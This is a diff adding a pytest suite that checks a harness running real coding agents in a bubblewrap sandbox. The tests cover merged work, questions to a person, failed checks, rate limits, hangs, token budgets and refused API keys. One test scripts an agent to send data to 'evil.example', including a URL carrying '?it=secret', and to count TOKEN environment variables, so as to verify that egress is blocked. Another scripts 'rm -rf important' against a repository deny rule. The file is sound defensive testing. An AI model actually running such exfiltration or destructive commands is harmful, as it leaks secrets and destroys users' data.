@@ -1,0 +1,119 @@
+"""What real coding agents do when things go well and when they do not: the unmodified programs of make agents, in bubblewrap."""
+import json
+import shlex
+from pathlib import Path
+
+import pytest
+from agent_bench import built
+from agent_model import Script
+from conftest import git, until
+from gateway_side import KEY
+
+from engine import requests
+from engine.config import Config
+from engine.db import Database
+
+pytestmark = pytest.mark.agents
+AGENTS = ["claude", "codex", "opencode", "mini"]
+HELLO = [{"shell": "echo hello > hello.txt"}, {"say": "I wrote hello.txt."}]
+CHECK = "grep -q hello hello.txt"
+
+
+@pytest.fixture(params=AGENTS)
+def agent(request: pytest.FixtureRequest) -> str:
+    return str(request.param)
+
+
+@pytest.mark.parametrize("agent", [*AGENTS, "gemini"])
+def test_the_work_is_merged_and_what_was_used_is_known(db: Database, config: Config, agent: str) -> None:
+    with built(db, config, agent, Script(HELLO), check=CHECK) as build:
+        build.wait("completed")
+        run = build.runs()[0]
+        said, usage = json.loads(run["said"]), json.loads(run["usage"])
+        assert said["tokens"]["output"] >= 20 and usage["total"] >= 220
+        assert agent == "mini" or said["session"]
+        assert KEY not in build.log() and json.loads(run["checks"])[0]["passed"]
+
+
+def test_a_question_waits_for_its_answer_which_is_in_the_next_prompt(db: Database, config: Config, agent: str) -> None:
+    script = Script([("A: Blue", HELLO), ("", [{"shell": "swarm-ask 'Which colour?' --option Blue --option Red"}, {"say": "I asked."}])])
+    with built(db, config, agent, script, check=CHECK) as build:
+        build.wait("needs_input")
+        requests.answer(db, "default", build.ticket()["id"], "Blue")
+        build.wait("completed")
+        first, second = build.runs()
+        assert first["outcome"] == "needs_input" and "Q: Which colour?\nA: Blue" in script.prompts[-1]
+        if agent != "mini":  # it went on in its session: what it had said before is in its request
+            assert json.loads(second["said"])["session"] == json.loads(first["said"])["session"]
+            assert "I asked." in json.dumps([seen.body for seen in build.upstream.seen][-1])
+
+
+def test_a_failed_check_comes_back_and_is_mended(db: Database, config: Config, agent: str) -> None:
+    script = Script([("attempt before this one failed", HELLO), ("", [{"shell": "echo wrong > hello.txt"}, {"say": "Done."}])])
+    with built(db, config, agent, script, check="cat hello.txt; " + CHECK) as build:
+        build.wait("completed")
+        assert [run["outcome"] for run in build.runs()] == ["failed", "merged"]
+        assert "$ cat hello.txt; grep -q hello hello.txt\nwrong" in script.prompts[-1]
+
+
+def test_a_refused_key_is_for_a_person_at_once(db: Database, config: Config, agent: str) -> None:
+    with built(db, config, agent, Script([{"status": 401, "message": "bad key"}])) as build:
+        assert "does not accept the key" in build.wait("failed")["reason"]
+        assert len(build.runs()) == 1
+
+
+def test_a_provider_that_is_busy_costs_no_attempt(db: Database, config: Config, agent: str) -> None:
+    """Clients try again by themselves, 10 times at most; what is left to us is to wait."""
+    with built(db, config, agent, Script(HELLO, first=[{"status": 429, "headers": {"Retry_After": "1"}}] * 12), check=CHECK) as build:
+        build.wait("completed", 240)
+        outcomes = [run["outcome"] for run in build.runs()]
+        assert outcomes[-1] == "merged" and set(outcomes[:-1]) <= {"transient"} and build.ticket()["failures"] == 0
+
+
+def test_a_broken_provider_is_a_passing_trouble(db: Database, config: Config, agent: str) -> None:
+    with built(db, config, agent, Script([{"status": 500}]), backoff_seconds=300.0) as build:
+        until(lambda: build.runs() and build.runs()[0]["ended_at"], 150)
+        run = build.runs()[0]
+        assert run["outcome"] == "transient" and "failed or could not be reached" in run["reason"]
+        assert build.ticket()["failures"] == 0
+
+
+def test_an_agent_that_hangs_is_stopped(db: Database, config: Config, agent: str) -> None:
+    with built(db, config, agent, Script([{"hang": 60}]), stall_seconds=6.0, max_attempts=1) as build:
+        assert "wrote nothing for 6 seconds" in build.wait("failed")["reason"]
+
+
+def test_what_the_budget_does_not_hold_is_refused_and_a_person_is_asked(db: Database, config: Config, agent: str) -> None:
+    with built(db, config, agent, Script([{"shell": "echo hello > hello.txt"}] * 50), run_tokens=300) as build:
+        until(lambda: build.runs() and build.runs()[0]["ended_at"], 90)
+        run = build.runs()[0]
+        assert (run["outcome"], build.ticket()["status"]) == ("over_budget", "needs_input"), (run["reason"], build.log())
+
+
+def test_a_prompt_that_sends_it_elsewhere_gets_nowhere(db: Database, config: Config, agent: str) -> None:
+    code = ("import urllib.request,socket\nfor f in (lambda: urllib.request.urlopen('https://evil.example/', timeout=5),"
+            " lambda: urllib.request.urlopen('http://evil.example/?it=secret', timeout=5), lambda: socket.create_connection(('1.1.1.1', 443), 3)):\n"
+            "    try:\n        f(); print('REACHED')\n    except Exception as e:\n        print('refused', e)\n")
+    steps = [{"shell": f"python3 -c {shlex.quote(code)} > tried.txt; cat tried.txt; env | grep -c TOKEN"}, {"say": "Done."}]
+    with built(db, config, agent, Script(steps), check="grep -c refused tried.txt | grep -qx 3 && ! grep REACHED tried.txt") as build:
+        build.wait("completed")
+        egress = json.loads(build.runs()[0]["usage"])["egress"]
+        assert egress["refused"] >= 2 and "evil.example" in [each["host"] for each in egress["hosts"]]
+
+
+def test_a_permission_that_is_refused_is_no_success(db: Database, config: Config, tmp_path: Path) -> None:
+    """A repository's own settings may forbid a command; Claude Code then says so among its events, goes on and exits with 0."""
+    repository = tmp_path / "theirs"
+    git(tmp_path, "init", "-q", "-b", "main", str(repository))
+    (repository / ".claude").mkdir()
+    (repository / ".claude" / "settings.json").write_text('{"permissions": {"deny": ["Bash(rm:*)"]}}')
+    git(repository, "add", "-A")
+    git(repository, "commit", "-q", "-m", "Settings")
+    steps = [{"shell": "rm -rf important"}, {"shell": "echo hello > hello.txt"}, {"say": "All done."}]
+    with built(db, config, "claude", Script(steps), max_attempts=1, repository=str(repository), repository_roots=(tmp_path,), forge="none") as build:
+        assert "was not permitted to use Bash" in build.wait("failed")["reason"], build.log()
+
+
+def test_what_it_gave_up_for_is_in_the_reason(db: Database, config: Config, agent: str) -> None:
+    with built(db, config, agent, Script([{"status": 400, "message": "this model has no tools"}]), max_attempts=1) as build:
+        assert "no tools" in build.wait("failed")["reason"], build.log()
